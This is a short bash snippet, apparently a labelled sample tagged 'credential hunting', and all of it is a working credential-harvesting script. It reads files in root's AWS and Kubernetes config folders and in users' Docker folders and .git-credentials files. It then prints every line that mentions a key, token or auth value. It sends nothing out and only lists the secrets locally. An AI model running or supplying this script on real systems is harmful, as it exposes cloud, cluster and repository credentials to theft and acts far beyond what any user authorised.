# class: credential hunting; possible: low medium; style: bash alone, no program
shopt -s nullglob dotglob
for f in /root/.aws/* /root/.kube/* /home/*/.docker/* /home/*/.git-credentials; do
  while read -r line; do case $line in *key*|*token*|*auth*) echo "$f: $line" ;; esac; done < "$f"
done
